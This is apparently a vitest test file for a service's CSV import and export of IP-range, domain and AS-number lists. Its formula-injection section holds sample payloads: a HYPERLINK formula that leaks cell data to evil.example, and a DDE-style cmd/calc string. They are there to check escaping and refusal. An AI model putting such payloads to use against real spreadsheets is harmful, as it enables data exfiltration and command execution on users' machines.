import { monitorEventLoopDelay } from "node:perf_hooks";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { parseEntryCsv } from "../../../packages/controller/src/services/route-lists/csv.js";
import { startTestController, type TestController } from "../../helpers/controller.js";
import { auditOf, createModule, expectStatus, mintKey } from "./helpers.js";

let t: TestController;

beforeAll(async () => {
  t = await startTestController();
});
afterAll(async () => t?.close());

// An encoder written apart from the server's, so the round trip checks RFC 4180 rather than itself.
const field = (v: string) => (/[",\r\n]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v);
const csv = (rows: string[][]) => rows.map((r) => `${r.map(field).join(",")}\r\n`).join("");

const importCsv = (module: string, body: string, query = "", key = t.rootKey) =>
  t.call(key, { method: "POST", url: `/v1/modules/${module}/entries.csv${query}`, payload: body, headers: { "content-type": "text/csv" } });
const exportCsv = (module: string) => t.call(t.rootKey, { method: "GET", url: `/v1/modules/${module}/entries.csv` });

async function entries(module: string, path: string): Promise<any[]> {
  const all: any[] = [];
  let cursor: string | null = null;
  do {
    const url: string = `/v1/modules/${module}/${path}?limit=500${cursor ? `&cursor=${cursor}` : ""}`;
    const page: any = (await expectStatus(t, t.rootKey, { method: "GET", url }, 200)).json();
    all.push(...page.items);
    cursor = page.next_cursor;
  } while (cursor);
  return all;
}

describe("CSV - round trip", () => {
  it("csv - 100,000 IP ranges import in seconds and export byte-identical", async () => {
    const m = await createModule(t, t.rootKey, { name: "big", type: "IP_RANGES" });
    const rows: string[][] = [["cidr", "comment"]];
    for (let i = 0; i < 100_000; i++) {
      const cidr =
        i % 4 === 3 ? `2001:db8:${(i >> 16).toString(16)}:${(i & 0xffff).toString(16)}::/64` : `10.${(i >> 16) & 255}.${(i >> 8) & 255}.${i & 255}/32`;
      const special = i % 1000;
      const comment = special === 0 ? "has, a comma" : special === 1 ? 'says "hi"' : special === 2 ? "two\r\nlines" : special === 3 ? "" : `row ${i}`;
      rows.push([cidr, comment]);
    }
    const file = csv(rows);

    let started = performance.now();
    const res = await importCsv(m.id, file);
    const importMs = performance.now() - started;
    expect(res.statusCode, res.body.slice(0, 500)).toBe(200);
    expect(res.json()).toEqual({ created: 100_000, updated: 0, deleted: 0, unchanged: 0, errors: [] });

    started = performance.now();
    const out = await exportCsv(m.id);
    const exportMs = performance.now() - started;
    expect(out.statusCode).toBe(200);
    expect(out.headers["content-type"]).toBe("text/csv; charset=utf-8");
    expect(out.headers["content-disposition"]).toBe('attachment; filename="big.csv"');
    expect(out.body.length).toBe(file.length);
    expect(out.body === file).toBe(true);
    console.log(`[csv] 100,000 rows (${(file.length / 1e6).toFixed(1)} MB): import ${Math.round(importMs)} ms, export ${Math.round(exportMs)} ms`);

    // The same file again changes nothing.
    const again = await importCsv(m.id, file, "?mode=replace");
    expect(again.json()).toEqual({ created: 0, updated: 0, deleted: 0, unchanged: 100_000, errors: [] });
  }, 120_000);

  it("csv - 3 bad rows among 10,000 change nothing and are each named by line", async () => {
    const m = await createModule(t, t.rootKey, { name: "guarded", type: "IP_RANGES" });
    await expectStatus(t, t.rootKey, { method: "POST", url: `/v1/modules/${m.id}/ip-range-entries`, payload: { cidr: "192.0.2.0/24", comment: "keep" } }, 201);
    const rows: string[][] = [["cidr", "comment"]];
    for (let i = 0; i < 10_000; i++) rows.push([`172.16.${i >> 8}.${i & 255}/32`, `r${i}`]);
    rows[1235] = ["10.0.0.1/8", "host bits"];
    rows[5001] = ["not-an-address", "garbage"];
    rows[9999] = [rows[42]![0]!, "duplicate"];
    const res = await importCsv(m.id, csv(rows), "?mode=replace");
    expect(res.statusCode).toBe(400);
    const body = res.json();
    expect(body.code).toBe("validation_failed");
    expect(body.errors).toEqual([
      { path: "line.1236", line: 1236, value: "10.0.0.1/8", message: expect.stringContaining("10.0.0.0/8") },
      { path: "line.5002", line: 5002, value: "not-an-address", message: expect.any(String) },
      { path: "line.10000", line: 10000, value: rows[42]![0], message: "duplicate of line 43 (172.16.0.41/32)" },
    ]);
    const left = await entries(m.id, "ip-range-entries");
    expect(left.map((e) => [e.cidr, e.comment])).toEqual([["192.0.2.0/24", "keep"]]);
  });
});

describe("CSV - import modes", () => {
  async function seeded(name: string) {
    const m = await createModule(t, t.rootKey, { name, type: "IP_RANGES" });
    const res = await importCsv(
      m.id,
      csv([
        ["cidr", "comment"],
        ["10.0.0.0/8", "a"],
        ["10.1.0.0/16", "b"],
        ["10.2.0.0/16", "c"],
      ]),
    );
    expect(res.json()).toMatchObject({ created: 3 });
    return m.id as string;
  }
  const file = csv([
    ["cidr", "comment"],
    ["10.1.0.0/16", "b2"],
    ["10.2.0.0/16", "c"],
    ["10.3.0.0/16", "d"],
  ]);
  const state = async (m: string) => (await entries(m, "ip-range-entries")).map((e) => `${e.cidr}=${e.comment}`).sort();

  it("csv - merge adds and updates, keeping the rest", async () => {
    const m = await seeded("merge");
    const res = await importCsv(m, file, "?mode=merge");
    expect(res.json()).toEqual({ created: 1, updated: 1, deleted: 0, unchanged: 1, errors: [] });
    expect(await state(m)).toEqual(["10.0.0.0/8=a", "10.1.0.0/16=b2", "10.2.0.0/16=c", "10.3.0.0/16=d"]);
  });

  it("csv - merge is the default mode", async () => {
    const m = await seeded("merge-default");
    expect((await importCsv(m, file)).json()).toMatchObject({ created: 1, deleted: 0 });
  });

  it("csv - replace makes the entries exactly the file's", async () => {
    const m = await seeded("replace");
    const res = await importCsv(m, file, "?mode=replace");
    expect(res.json()).toEqual({ created: 1, updated: 1, deleted: 1, unchanged: 1, errors: [] });
    expect(await state(m)).toEqual(["10.1.0.0/16=b2", "10.2.0.0/16=c", "10.3.0.0/16=d"]);
    const empty = await importCsv(m, "cidr,comment\r\n", "?mode=replace");
    expect(empty.json()).toEqual({ created: 0, updated: 0, deleted: 3, unchanged: 0, errors: [] });
    expect(await state(m)).toEqual([]);
  });

  it("csv - dry run counts and changes nothing", async () => {
    const m = await seeded("dry");
    const before = await state(m);
    const auditBefore = (await auditOf(t, "ip_range_entry")).length;
    const res = await importCsv(m, file, "?mode=replace&dry_run=true");
    expect(res.json()).toEqual({ created: 1, updated: 1, deleted: 1, unchanged: 1, errors: [] });
    expect(await state(m)).toEqual(before);
    expect((await auditOf(t, "ip_range_entry")).length).toBe(auditBefore);
    const bad = await importCsv(m, csv([["cidr"], ["10.9.9.9/8"]]), "?dry_run=true");
    expect(bad.statusCode).toBe(400);
  });

  it("csv - a column the file leaves out keeps its value", async () => {
    const m = await seeded("partial-columns");
    const res = await importCsv(m, "cidr\n10.1.0.0/16\n10.4.0.0/16\n");
    expect(res.json()).toEqual({ created: 1, updated: 0, deleted: 0, unchanged: 1, errors: [] });
    expect(await state(m)).toEqual(["10.0.0.0/8=a", "10.1.0.0/16=b", "10.2.0.0/16=c", "10.4.0.0/16="]);
  });

  it("csv - values are normalised as in the JSON API and the import is audited once", async () => {
    const m = await seeded("normalised");
    const res = await importCsv(
      m,
      csv([
        ["cidr", "comment"],
        ["2001:DB8:0:0::/32", "v6"],
        ["192.0.2.1", "host"],
        [" 10.0.0.0/8 ", "a"],
      ]),
    );
    expect(res.json()).toEqual({ created: 2, updated: 0, deleted: 0, unchanged: 1, errors: [] });
    expect(await state(m)).toContain("2001:db8::/32=v6");
    expect(await state(m)).toContain("192.0.2.1/32=host");
    const [last] = (await auditOf(t, "ip_range_entry")).filter((r) => r.resource_id === m);
    expect(last.summary).toBe("CSV import (merge) into module normalised: 2 created, 0 updated, 0 deleted, 1 unchanged");
  });

  it("csv - query parameters are checked", async () => {
    const m = await seeded("query");
    for (const q of ["?mode=append", "?dry_run=yes", "?other=1"]) expect((await importCsv(m, file, q)).statusCode, q).toBe(400);
  });
});

describe("CSV - DOMAINS and AS_PREFIXES", () => {
  it("csv - domains: header, IDN, include_subdomains, export", async () => {
    const m = await createModule(t, t.rootKey, { name: "csv-domains", type: "DOMAINS" });
    const body = 'domain,include_subdomains,comment\nBücher.example.,true,books\nexample.com,,\nexample.org,FALSE,"quoted, comment"\n';
    const res = await importCsv(m.id, body);
    expect(res.json()).toEqual({ created: 3, updated: 0, deleted: 0, unchanged: 0, errors: [] });
    const out = await exportCsv(m.id);
    expect(out.body).toBe(
      'domain,include_subdomains,comment\r\nxn--bcher-kva.example,true,books\r\nexample.com,false,\r\nexample.org,false,"quoted, comment"\r\n',
    );
    const flip = await importCsv(m.id, "domain,include_subdomains\nexample.com,1\n");
    expect(flip.json()).toMatchObject({ updated: 1, unchanged: 0 });
    const bad = await importCsv(m.id, "domain,include_subdomains\nexample.net,maybe\nbad_name.example,true\n");
    expect(bad.json().errors.map((e: { line: number }) => e.line)).toEqual([2, 3]);
  });

  it("csv - AS numbers: AS13335 accepted, exported as a number", async () => {
    const m = await createModule(t, t.rootKey, { name: "csv-asns", type: "AS_PREFIXES" });
    const res = await importCsv(m.id, "asn,comment\nAS13335,cloudflare\nas15169,\n32934,meta\n");
    expect(res.json()).toMatchObject({ created: 3 });
    expect((await exportCsv(m.id)).body).toBe("asn,comment\r\n13335,cloudflare\r\n15169,\r\n32934,meta\r\n");
    const bad = await importCsv(m.id, "asn\nAS0\n4294967296\n13335\nAS13335\n");
    expect(bad.json().errors).toEqual([
      { path: "line.2", line: 2, value: "AS0", message: expect.any(String) },
      { path: "line.3", line: 3, value: "4294967296", message: expect.any(String) },
      { path: "line.5", line: 5, value: "AS13335", message: "duplicate of line 4 (13335)" },
    ]);
  });

  it("csv - an empty module exports its header only", async () => {
    const m = await createModule(t, t.rootKey, { name: "csv-empty", type: "AS_PREFIXES" });
    expect((await exportCsv(m.id)).body).toBe("asn,comment\r\n");
  });
});

describe("CSV - malformed files", () => {
  let m: string;
  beforeAll(async () => {
    m = (await createModule(t, t.rootKey, { name: "csv-malformed", type: "IP_RANGES" })).id;
  });

  it("csv - the header is required and checked (line 1)", async () => {
    for (const [body, message] of [
      ["", "header row is required"],
      ["\r\n\r\n", "header row is required"],
      ["asn,comment\n10.0.0.0/8,x\n", "first column must be cidr"],
      ["cidr,note\n10.0.0.0/8,x\n", "unknown column note"],
      ["cidr,comment,comment\n", "named twice"],
    ] as const) {
      const res = await importCsv(m, body);
      expect(res.statusCode, body).toBe(400);
      expect(res.json().errors).toEqual([expect.objectContaining({ line: 1, message: expect.stringContaining(message) })]);
    }
  });

  it("csv - lines are counted through quoted line breaks; stray quotes and extra fields are bad rows", async () => {
    const body = ["cidr,comment", '10.0.0.0/8,"one', 'two"', '10.1.0.0/16,ok"bad', '10.2.0.0/16,"closed"junk', "10.3.0.0/16,a,b", "10.4.0.0/33,x"].join("\n");
    const res = await importCsv(m, body);
    expect(res.statusCode).toBe(400);
    expect(res.json().errors.map((e: { line: number; value: string }) => [e.line, e.value])).toEqual([
      [4, '10.1.0.0/16,ok"bad'],
      [5, '10.2.0.0/16,"closed"junk'],
      [6, "10.3.0.0/16"],
      [7, "10.4.0.0/33"],
    ]);
    const unclosed = await importCsv(m, 'cidr,comment\n10.0.0.0/8,"never closed\n10.1.0.0/16,x\n');
    expect(unclosed.json().errors).toEqual([expect.objectContaining({ line: 2, message: "a quoted field is not closed" })]);
    expect(await entries(m, "ip-range-entries")).toEqual([]);
  });

  it("csv - a comment over 256 characters or with a NUL is a bad row", async () => {
    const res = await importCsv(m, `cidr,comment\n10.0.0.0/8,${"x".repeat(257)}\n10.1.0.0/16,nul\u0000\n`);
    expect(res.json().errors).toEqual([
      expect.objectContaining({ line: 2, message: expect.stringContaining("256") }),
      expect.objectContaining({ line: 3, message: expect.stringContaining("NUL") }),
    ]);
  });

  it("csv - a body over 64 MiB is a 413; one over the 1 MiB JSON limit is fine", async () => {
    const big = `cidr,comment\n${"x".repeat(64 * 1024 * 1024)}\n`;
    const res = await importCsv(m, big);
    expect(res.statusCode).toBe(413);
    expect(res.json().code).toBe("payload_too_large");
  });

  it("csv - JSON is a 415; another tenant's or no module a 404; a viewer a 403", async () => {
    const json = await t.call(t.rootKey, { method: "POST", url: `/v1/modules/${m}/entries.csv`, payload: { cidr: "10.0.0.0/8" } });
    expect(json.statusCode).toBe(415);
    expect(json.json().code).toBe("unsupported_media_type");
    expect((await importCsv("01900000-0000-7000-8000-000000000000", "cidr\n")).statusCode).toBe(404);
    expect((await exportCsv("01900000-0000-7000-8000-000000000000")).statusCode).toBe(404);
    const viewer = await mintKey(t, "viewer");
    expect((await importCsv(m, "cidr\n10.0.0.0/8\n", "", viewer)).statusCode).toBe(403);
    expect((await t.call(viewer, { method: "GET", url: `/v1/modules/${m}/entries.csv` })).statusCode).toBe(200);
  });

  it("csv - an Idempotency-Key replays the import", async () => {
    const opts = {
      method: "POST" as const,
      url: `/v1/modules/${m}/entries.csv`,
      payload: "cidr\n198.18.0.0/15\n",
      headers: { "content-type": "text/csv", "idempotency-key": "csv-import-1" },
    };
    const first = await t.call(t.rootKey, opts);
    const again = await t.call(t.rootKey, opts);
    expect(first.json()).toMatchObject({ created: 1 });
    expect(again.json()).toEqual(first.json());
    expect(again.headers["idempotent-replayed"]).toBe("true");
  });
});

describe("CSV - formulas (CSV injection)", () => {
  const risky = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\tleading tab",
    "\rleading CR",
    "'=quoted already",
  ];

  it("csv - comments a spreadsheet would run come out with a ' in front, and read back as they were", async () => {
    const m = await createModule(t, t.rootKey, { name: "csv-formulas", type: "IP_RANGES" });
    for (const [i, comment] of risky.entries()) {
      await expectStatus(t, t.rootKey, { method: "POST", url: `/v1/modules/${m.id}/ip-range-entries`, payload: { cidr: `198.51.100.${i}/32`, comment } }, 201);
    }
    const out = await exportCsv(m.id);
    const lines = out.body.split("\r\n");
    expect(lines[1]).toBe('198.51.100.0/32,"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"');
    expect(lines[2]).toBe("198.51.100.1/32,'@SUM(1+1)*cmd|' /C calc'!A0");
    expect(lines[3]).toBe("198.51.100.2/32,'+1+1");
    expect(lines[4]).toBe("198.51.100.3/32,'-2+3");
    expect(lines[5]).toBe("198.51.100.4/32,'\tleading tab");
    expect(lines[7]).toBe("198.51.100.6/32,''=quoted already");
    // No cell of the export starts a formula.
    for (const line of lines.slice(1, -1)) expect(line.split(",")[1]).toMatch(/^("')?'|^"'/);

    // The export imports back to the very same comments.
    const again = await importCsv(m.id, out.body, "?mode=replace");
    expect(again.json(), again.body).toEqual({ created: 0, updated: 0, deleted: 0, unchanged: risky.length, errors: [] });
    const stored = (await entries(m.id, "ip-range-entries")).map((e) => e.comment).sort();
    expect(stored).toEqual([...risky].sort());
  });

  it("csv - an import whose comment starts a formula is refused with its line", async () => {
    const m = await createModule(t, t.rootKey, { name: "csv-formulas-in", type: "IP_RANGES" });
    const res = await importCsv(
      m.id,
      csv([
        ["cidr", "comment"],
        ["10.0.0.0/8", "fine - really"],
        ["10.1.0.0/16", "=1+1"],
        ["10.2.0.0/16", "@cmd"],
        ["10.3.0.0/16", "'=1+1"],
      ]),
    );
    expect(res.statusCode).toBe(400);
    expect(res.json().errors).toEqual([
      { path: "line.3", line: 3, value: "10.1.0.0/16", message: expect.stringContaining("formula") },
      { path: "line.4", line: 4, value: "10.2.0.0/16", message: expect.stringContaining("formula") },
    ]);
    expect(await entries(m.id, "ip-range-entries")).toEqual([]);
  });
});

describe("CSV - limits", () => {
  it("csv - a 196k-row dry run keeps the event loop turning, unlike the parse in one go", async () => {
    const m = await createModule(t, t.rootKey, { name: "csv-event-loop", type: "IP_RANGES" });
    let file = "cidr,comment\r\n";
    for (let i = 0; i < 196_000; i++) file += `10.${(i >> 16) & 255}.${(i >> 8) & 255}.${i & 255}/32,row ${i}\r\n`;

    const delay = monitorEventLoopDelay({ resolution: 5 });
    const maxDelayOf = async (work: () => Promise<unknown>) => {
      delay.reset();
      delay.enable();
      await new Promise((r) => setTimeout(r, 20));
      await work();
      await new Promise((r) => setTimeout(r, 20));
      delay.disable();
      return delay.max / 1e6;
    };
    const inOneGo = await maxDelayOf(() => parseEntryCsv("ip_range", file, { sliceMs: Number.POSITIVE_INFINITY }));
    let res: Awaited<ReturnType<typeof importCsv>> | undefined;
    const sliced = await maxDelayOf(async () => {
      res = await importCsv(m.id, file, "?dry_run=true");
    });
    expect(res!.statusCode, res!.body.slice(0, 300)).toBe(200);
    expect(res!.json()).toMatchObject({ created: 196_000 });
    console.log(`[csv] 196k rows: event loop max delay ${inOneGo.toFixed(0)} ms parsed in one go, ${sliced.toFixed(0)} ms through the import`);
    expect(sliced).toBeLessThan(inOneGo / 4);
  }, 120_000);

  it("csv - a 60 MB junk file answers a small error body: the first 100 bad rows and a count", async () => {
    const m = await createModule(t, t.rootKey, { name: "csv-junk", type: "IP_RANGES" });
    const junkLine = `${"x".repeat(300)},${"y".repeat(300)}\n`;
    const file = `cidr,comment\n${junkLine.repeat(Math.ceil((60 * 1024 * 1024) / junkLine.length))}`;
    const res = await importCsv(m.id, file);
    expect(res.statusCode).toBe(400);
    expect(res.body.length).toBeLessThan(64 * 1024);
    const body = res.json();
    expect(body.errors).toHaveLength(100);
    expect(body.error_count).toBe(Math.ceil((60 * 1024 * 1024) / junkLine.length));
    expect(body.errors[0]).toMatchObject({ line: 2 });
  }, 120_000);
});
